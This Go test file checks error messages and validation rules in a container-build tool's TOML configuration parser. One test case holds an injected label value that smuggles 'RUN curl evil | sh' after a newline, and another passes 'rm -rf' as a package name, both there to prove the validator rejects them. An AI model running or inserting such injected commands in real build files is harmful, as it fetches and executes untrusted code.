package config_test

import (
	"bytes"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"

	"github.com/BurntSushi/toml"

	"github.com/slipway/slipway/internal/config"
)

// fieldErrors unwraps err into its FieldErrors, failing unless it is an
// *InvalidError made only of them.
func fieldErrors(t *testing.T, err error) []*config.FieldError {
	t.Helper()
	var ie *config.InvalidError
	if !errors.As(err, &ie) {
		t.Fatalf("want *config.InvalidError, got %T: %v", err, err)
	}
	if !config.IsInvalid(err) {
		t.Fatalf("IsInvalid(%v) = false", err)
	}
	var out []*config.FieldError
	for _, e := range ie.Errs {
		var fe *config.FieldError
		if !errors.As(e, &fe) {
			t.Fatalf("problem %v is a %T, not a *config.FieldError", e, e)
		}
		out = append(out, fe)
	}
	return out
}

const head = "name = \"api\"\nlanguage = \"go\"\n"

func TestParseErrors(t *testing.T) {
	for _, tc := range []struct {
		name string
		src  string
		line int
		key  string
		want []string // what the message must say (what is wrong, what is allowed)
	}{
		{"unknown top-level key", head + "colour = \"blue\"\n", 3, "colour",
			[]string{"unknown key", "allowed here:", "base", "healthcheck", "secret"}},
		{"unknown key in healthcheck", head + "[healthcheck]\ninterval = \"10s\"\nbogus = 1\n", 5, "healthcheck.bogus",
			[]string{"unknown key", "allowed here: binary, command, disabled, grpc, http_path, interval, retries, start_period, timeout"}},
		{"unknown dotted key in healthcheck", head + "healthcheck.bogus = 1\n", 3, "healthcheck.bogus",
			[]string{"allowed here: binary, command, disabled"}},
		{"unknown key in second secret", head + "[[secret]]\nid = \"a\"\n\n[[secret]]\nid = \"b\"\nfile = \"x\"\n", 8, "secret[1].file",
			[]string{"unknown key", "allowed here: env, id, optional, target"}},
		{"unknown table", head + "[build]\nstage = 1\n", 3, "build", []string{"unknown key"}},
		{"wrong type: string for int", head + "port = \"8080\"\n", 3, "port", []string{`want a port number 1-65535 like 8080, got the string "8080"; remove the quotes`}},
		{"wrong type: string for list", head + "entrypoint = \"/app/api\"\n", 3, "entrypoint", []string{`want a list of strings like ["a", "b"], got the string "/app/api"`}},
		{"wrong type in healthcheck", head + "[healthcheck]\nretries = \"3\"\n", 4, "healthcheck.retries", []string{`want a whole number 0-100, got the string "3"`}},
		{"wrong type: int for table", head + "healthcheck = 5\n", 3, "healthcheck", []string{"want a table (a [healthcheck] section), got the number 5"}},
		{"wrong type: value for map", head + "labels = 3\n", 3, "labels", []string{"want a table (a [labels] section", "got the number 3"}},
		{"wrong type: string for env map", head + "\nenv = \"LOG=1\"\n", 4, "env", []string{"want a table (an [env] section", `got the string "LOG=1"`}},
		{"size budget as a number", head + "\n\nsize_budget = 25\n", 5, "size_budget", []string{`want a string like "25MB", got the number 25`}},
		{"size budget without a unit", head + "size_budget = \"25\"\n", 3, "size_budget", []string{`"25" has no unit`, `"25MB"`}},
		{"duration without a unit", head + "[healthcheck]\ninterval = \"30\"\n", 4, "healthcheck.interval", []string{`"30" has no unit`, `"30s"`}},
		{"duration as a number", head + "[healthcheck]\ntimeout = 5\n", 4, "healthcheck.timeout", []string{`want a string like "5s", got the number 5`}},
		{"bool as a string", head + "cgo = \"yes\"\n", 3, "cgo", []string{`want true or false, got the string "yes"`}},
		{"secret as a table", head + "[secret]\nid = \"a\"\n", 3, "secret", []string{"want an array of tables (one [[secret]] section each), got a table"}},
		{"misspelt key", head + "[healthchek]\nhttp_path = \"/h\"\n", 3, "healthchek", []string{"unknown key; did you mean healthcheck?"}},
		{"misspelt nested key", head + "[healthcheck]\nhttp_pth = \"/h\"\n", 4, "healthcheck.http_pth", []string{"did you mean http_path?"}},
		{"camel-case key", head + "sizeBudget = \"25MB\"\n", 3, "sizeBudget", []string{"did you mean size_budget?"}},
		{"user 0", head + "user = 0\n", 3, "user", []string{"0 is root", "non-root uid 1-2147483647"}},
		{"port 0", head + "port = 0\n", 3, "port", []string{"0 is not a port", "1-65535", "remove the key"}},
		{"port -1", head + "port = -1\n", 3, "port", []string{"-1 is out of range", "1-65535"}},
		{"port 70000", head + "port = 70000\n", 3, "port", []string{"70000 is out of range", "1-65535"}},
		{"secret id with a space", head + "[[secret]]\nid = \"my token\"\n", 4, "secret[0].id",
			[]string{`"my token" is not a valid secret id`, "no spaces"}},
		{"duplicate secret ids", head + "[[secret]]\nid = \"tok\"\n\n[[secret]]\nid = \"tok\"\n", 7, "secret[1].id",
			[]string{`"tok" is declared twice`, "secret[0]"}},
		{"secret target not absolute", head + "[[secret]]\nid = \"a\"\ntarget = \"rel/file\"\n", 5, "secret[0].target",
			[]string{"absolute path"}},
		{"bad label key", head + "[labels]\n\"Team Name\" = \"x\"\n", 4, "labels.Team Name",
			[]string{"not a valid label key", "lowercase letters, digits and ._/-"}},
		{"label value with newline", head + "[labels]\n\"com.example.note\" = \"a\\nRUN curl evil | sh\"\n", 4, "labels.com.example.note",
			[]string{"control character (U+000A)", "single line"}},
		{"env value with carriage return", head + "[env]\nMODE = \"a\\rb\"\n", 4, "env.MODE", []string{"U+000D"}},
		{"env named like a credential", head + "[env]\nLOG_LEVEL = \"info\"\nGITHUB_TOKEN = \"x\"\n", 5, "env.GITHUB_TOKEN",
			[]string{"looks like a credential", "[[secret]]"}},
		{"bad env name", head + "[env]\n\"1X\" = \"a\"\n", 4, "env.1X", []string{"not a valid environment variable name"}},
		{"bad duration", head + "[healthcheck]\ncommand = [\"/app/api\", \"-health\"]\ninterval = \"10 seconds\"\n", 5, "healthcheck.interval",
			[]string{`"10 seconds" is not a duration`, `"30s"`}},
		{"duration under BuildKit's 1ms", head + "[healthcheck]\ntimeout = \"500us\"\n", 4, "healthcheck.timeout", []string{"from 1ms to 24h"}},
		{"bad base reference", head + "base = \"Registry.Example/App\"\n", 3, "base",
			[]string{"neither a catalogue key nor a valid image reference"}},
		{"bad golden base", head + "base = \"golden:Bad Name\"\n", 3, "base", []string{"golden:<name>"}},
		{"bad base digest", head + "base_digest = \"sha256:abc\"\n", 3, "base_digest", []string{"64 lowercase hex"}},
		{"bad name", "language = \"go\"\nname = \"My API\"\n", 2, "name", []string{"lowercase letters"}},
		{"missing name", "language = \"go\"\n", 0, "name", []string{"required"}},
		{"unknown language", "name = \"api\"\nlanguage = \"cobol\"\n", 2, "language", []string{"allowed: go, node, python, java, rust, dotnet"}},
		{"package manager of another language", head + "package_manager = \"npm\"\n", 3, "package_manager", []string{"only one package manager"}},
		{"main with ..", head + "main = \"../outside\"\n", 3, "main", []string{"no '..'"}},
		{"empty program", head + "cmd = [\"\", \"x\"]\n", 3, "cmd", []string{"must not be empty"}},
		{"bad build package", head + "build_packages = [\"ok-pkg\", \"rm -rf\"]\n", 3, "build_packages[1]", []string{"not a Debian package name"}},
		{"bad size budget", head + "size_budget = \"big\"\n", 3, "size_budget", []string{`"25MB"`}},
		{"both healthcheck kinds", head + "port = 8080\n[healthcheck]\ncommand = [\"/x\"]\nhttp_path = \"/h\"\n", 4, "healthcheck", []string{"one of command, http_path, grpc or binary"}},
		{"bad http path", head + "[healthcheck]\nhttp_path = \"health check\"\n", 4, "healthcheck.http_path", []string{"must start with '/'"}},
		{"syntax error: no value", head + "version = \n", 3, "version", []string{"expected value"}},
		{"syntax error: unclosed table", head + "[healthcheck\n", 3, "", []string{"table name"}},
		{"syntax error: duplicate key", head + "port = 1\nport = 2\n", 4, "port", []string{"already been defined"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			p, err := config.Parse("slipway.toml", []byte(tc.src))
			if err == nil {
				t.Fatalf("Parse accepted it: %#v", p)
			}
			if p != nil {
				t.Errorf("Parse returned a project with an error")
			}
			var found *config.FieldError
			for _, fe := range fieldErrors(t, err) {
				if fe.File != "slipway.toml" {
					t.Errorf("problem %q does not name the file", fe)
				}
				if fe.Key == tc.key && (found == nil || fe.Line == tc.line) {
					found = fe
				}
			}
			if found == nil {
				t.Fatalf("no problem with key %q in:\n%v", tc.key, err)
			}
			if found.Line != tc.line {
				t.Errorf("line %d, want %d: %v", found.Line, tc.line, found)
			}
			prefix := "slipway.toml:"
			if tc.line > 0 {
				prefix += fmt.Sprintf("%d:", tc.line)
			}
			if tc.key != "" {
				prefix += " " + tc.key + ":"
			}
			if !strings.HasPrefix(found.Error(), prefix) {
				t.Errorf("message %q does not start with %q", found, prefix)
			}
			for _, w := range tc.want {
				if !strings.Contains(found.Msg, w) {
					t.Errorf("message %q does not say %q", found.Msg, w)
				}
			}
		})
	}
}

// TestParseReportsEveryProblem checks that unknown keys and invalid values
// are reported together, each on its own line.
func TestParseReportsEveryProblem(t *testing.T) {
	src := "name = \"API\"\nlanguage = \"go\"\nport = 70000\ncolour = \"red\"\n[[secret]]\nid = \"a b\"\nfile = \"x\"\n"
	_, err := config.Parse("svc/slipway.toml", []byte(src))
	got := map[string]int{}
	for _, fe := range fieldErrors(t, err) {
		got[fe.Key] = fe.Line
	}
	want := map[string]int{"name": 1, "port": 3, "colour": 4, "secret[0].id": 6, "secret[0].file": 7}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("problems at %v, want %v\n%v", got, want, err)
	}
	if n := strings.Count(err.Error(), "\n"); n != len(want)-1 {
		t.Errorf("want one problem per line, got:\n%v", err)
	}
	if !strings.HasPrefix(err.Error(), "svc/slipway.toml:") {
		t.Errorf("error does not start with the file name: %v", err)
	}
}

// TestUnknownTableOnce checks that an unknown table is reported once, not
// again for every key in it.
func TestUnknownTableOnce(t *testing.T) {
	_, err := config.Parse("slipway.toml", []byte(head+"[healthcheck.probe]\nurl = \"/x\"\nevery = \"1s\"\n"))
	fes := fieldErrors(t, err)
	if len(fes) != 1 || fes[0].Key != "healthcheck.probe" || fes[0].Line != 3 {
		t.Fatalf("want one problem for healthcheck.probe at line 3, got:\n%v", err)
	}
	if !strings.Contains(fes[0].Msg, "allowed here: binary, command,") {
		t.Errorf("message does not list healthcheck's keys: %v", fes[0])
	}
}

func TestLoadFull(t *testing.T) {
	p, err := config.Load("testdata/full.toml")
	if err != nil {
		t.Fatal(err)
	}
	want := &config.Project{
		Name: "payments-api", Language: "node", Version: "22", PackageManager: "pnpm",
		Base: "distroless-nodejs", BaseDigest: "sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef",
		Main:          "dist/server.js",
		BuildCommand:  []string{"pnpm", "run", "build:prod"},
		Entrypoint:    []string{"/nodejs/bin/node", "--enable-source-maps"},
		Cmd:           []string{"dist/server.js"},
		Port:          3000,
		User:          65532,
		BuildPackages: []string{"python3", "g++=4:12.2.0-3"},
		SizeBudget:    "150MB",
		Healthcheck: config.Healthcheck{
			Command:  []string{"/nodejs/bin/node", "dist/health.js"},
			Interval: "15s", Timeout: "3s", StartPeriod: "20s", Retries: 5,
		},
		Secrets: []config.Secret{
			{ID: "npm_token", Target: "/root/.npmrc"},
			{ID: "sentry.auth", Env: "SENTRY_DSN_UPLOAD", Optional: true},
		},
		Labels: map[string]string{
			"org.opencontainers.image.source": "https://example.com/payments",
			"com.example.team":                `payments "core" $TEAM`,
		},
		Env: map[string]string{"LOG_LEVEL": "info", "NODE_OPTIONS": "--max-old-space-size=256"},
	}
	if !reflect.DeepEqual(p, want) {
		t.Errorf("Load read\n%#v\nwant\n%#v", p, want)
	}
}

// TestRoundTrip encodes a parsed project back to TOML and parses it again.
func TestRoundTrip(t *testing.T) {
	p, err := config.Load("testdata/full.toml")
	if err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	if err := toml.NewEncoder(&buf).Encode(p); err != nil {
		t.Fatal(err)
	}
	q, err := config.Parse("roundtrip.toml", buf.Bytes())
	if err != nil {
		t.Fatalf("the encoded project does not parse: %v\n%s", err, buf.Bytes())
	}
	if !reflect.DeepEqual(p, q) {
		t.Errorf("round trip changed the project:\n%#v\n%#v\n%s", p, q, buf.Bytes())
	}
	// Omitted keys stay omitted: a minimal file encodes to a minimal file.
	m, err := config.Parse("min.toml", []byte(head))
	if err != nil {
		t.Fatal(err)
	}
	buf.Reset()
	if err := toml.NewEncoder(&buf).Encode(m); err != nil {
		t.Fatal(err)
	}
	for _, l := range strings.Split(buf.String(), "\n") {
		if strings.HasSuffix(l, " = 0") || strings.HasSuffix(l, ` = ""`) {
			t.Errorf("an unset key is encoded: %q (port = 0 would not even parse)", l)
		}
	}
	if m2, err := config.Parse("min.toml", buf.Bytes()); err != nil || !reflect.DeepEqual(m, m2) {
		t.Errorf("minimal project does not round-trip: %v\n%s", err, buf.Bytes())
	}
}

func TestLoadMissingFile(t *testing.T) {
	_, err := config.Load(filepath.Join(t.TempDir(), "slipway.toml"))
	if !errors.Is(err, os.ErrNotExist) {
		t.Fatalf("want a not-exist error, got %v", err)
	}
	if config.IsInvalid(err) {
		t.Errorf("a missing file is not an invalid configuration")
	}
}

func TestValidateNeverMutates(t *testing.T) {
	full, err := config.Load("testdata/full.toml")
	if err != nil {
		t.Fatal(err)
	}
	bad := config.Project{
		Name: "Bad Name", Language: "go", PackageManager: "npm", Base: "golden:X", BaseDigest: "md5:1",
		Main: "../x", BuildCommand: []string{"", "\x00"}, Entrypoint: []string{" "}, Cmd: []string{"\xff"},
		Port: -1, User: -5, BuildPackages: []string{"A B"}, SizeBudget: "-1",
		Healthcheck: config.Healthcheck{Command: []string{"sh"}, HTTPPath: "x y", Interval: "0s", Timeout: "1y", StartPeriod: "x", Retries: 101},
		Secrets:     []config.Secret{{ID: "a"}, {ID: "a", Target: "rel", Env: "1"}, {}},
		Labels:      map[string]string{"Bad": "a\nb", "ok": "fine"},
		Env:         map[string]string{"API_KEY": "x", "": "y", "OK": "z\r"},
	}
	for name, p := range map[string]config.Project{"valid": *full, "invalid": bad, "empty": {}} {
		t.Run(name, func(t *testing.T) {
			before := p.Clone()
			err1 := p.Validate()
			if !reflect.DeepEqual(before, p) {
				t.Fatalf("Validate changed the project:\nbefore %#v\nafter  %#v", before, p)
			}
			err2 := p.Validate()
			if fmt.Sprint(err1) != fmt.Sprint(err2) {
				t.Errorf("Validate is not repeatable:\n%v\n%v", err1, err2)
			}
			if (name == "valid") != (err1 == nil) {
				t.Errorf("Validate(%s) = %v", name, err1)
			}
		})
	}
	// Every problem of the invalid project is reported, not just the first.
	errs := fieldErrors(t, bad.Validate())
	keys := map[string]bool{}
	for _, fe := range errs {
		keys[fe.Key] = true
	}
	for _, k := range []string{"name", "package_manager", "base", "base_digest", "main", "build_command", "build_command[1]",
		"entrypoint", "cmd[0]", "port", "user", "build_packages[0]", "size_budget", "healthcheck", "healthcheck.http_path",
		"healthcheck.interval", "healthcheck.timeout", "healthcheck.start_period", "healthcheck.retries",
		"secret[1].id", "secret[1].target", "secret[1].env", "secret[2].id", "labels.Bad", "env.API_KEY", "env.", "env.OK"} {
		if !keys[k] {
			t.Errorf("Validate did not report %s; got %v", k, keys)
		}
	}
}

func TestValidateLimits(t *testing.T) {
	p := config.Project{Name: "api", Language: "go"}
	long := strings.Repeat("x", 20<<10)
	cases := map[string]func(*config.Project){
		"cmd":            func(p *config.Project) { p.Cmd = []string{"/app", long} },
		"labels.a":       func(p *config.Project) { p.Labels = map[string]string{"a": long} },
		"env.A":          func(p *config.Project) { p.Env = map[string]string{"A": long} },
		"build_packages": func(p *config.Project) { p.BuildPackages = strings.Fields(strings.Repeat("pkg ", 101)) },
	}
	for key, set := range cases {
		q := p.Clone()
		set(&q)
		err := q.Validate()
		found := false
		for _, fe := range fieldErrors(t, err) {
			found = found || (fe.Key == key && strings.Contains(fe.Msg, "at most"))
		}
		if !found {
			t.Errorf("%s: no size limit reported: %v", key, err)
		}
	}
	if err := p.Validate(); err != nil {
		t.Errorf("the base project is invalid: %v", err)
	}
}

func TestLocate(t *testing.T) {
	src := []byte(head + "[[secret]]\nid = \"a\"\n[[secret]]\nid = \"b\"\ntarget = \"/x\"\n")
	err := config.Locate(&config.FieldError{Key: "secret[1].target", Msg: "bad"}, "s.toml", src)
	fes := fieldErrors(t, err)
	if len(fes) != 1 || fes[0].Line != 7 || fes[0].File != "s.toml" {
		t.Fatalf("Locate placed it at %v", err)
	}
	// A key with no line of its own goes to its table's line.
	err = config.Locate(&config.FieldError{Key: "secret[1]", Msg: "bad"}, "s.toml", src)
	if fes := fieldErrors(t, err); fes[0].Line != 5 {
		t.Errorf("table-level problem at line %d, want 5", fes[0].Line)
	}
	if config.Locate(nil, "s.toml", src) != nil {
		t.Errorf("Locate(nil) is not nil")
	}
}

// TestParseReportsEveryTypeError checks that wrong types and unknown keys
// come together, in file order, in the user's words, not the first only.
func TestParseReportsEveryTypeError(t *testing.T) {
	src := `name = "api"
language = "go"
port = "8080"
size_budget = 25
colour = "blue"
[healthcheck]
interval = 30
retries = "3"
[[secret]]
id = 7
`
	_, err := config.Parse("slipway.toml", []byte(src))
	want := `slipway.toml:3: port: want a port number 1-65535 like 8080, got the string "8080"; remove the quotes
slipway.toml:4: size_budget: want a string like "25MB", got the number 25
slipway.toml:5: colour: unknown key; allowed here: base, base_digest, build_command, build_packages, cgo, cmd, entrypoint, env, healthcheck, labels, language, main, name, npmrc, package_manager, pins, port, port_env, runtime_files, secret, service_dir, shared_paths, size_budget, user, version
slipway.toml:7: healthcheck.interval: want a string like "30s", got the number 30
slipway.toml:8: healthcheck.retries: want a whole number 0-100, got the string "3"; remove the quotes
slipway.toml:10: secret[0].id: want a string in quotes, got the number 7`
	if err == nil || err.Error() != want {
		t.Errorf("got:\n%v\nwant:\n%s", err, want)
	}
	if n := len(fieldErrors(t, err)); n != 6 {
		t.Errorf("%d problems, want 6", n)
	}
}
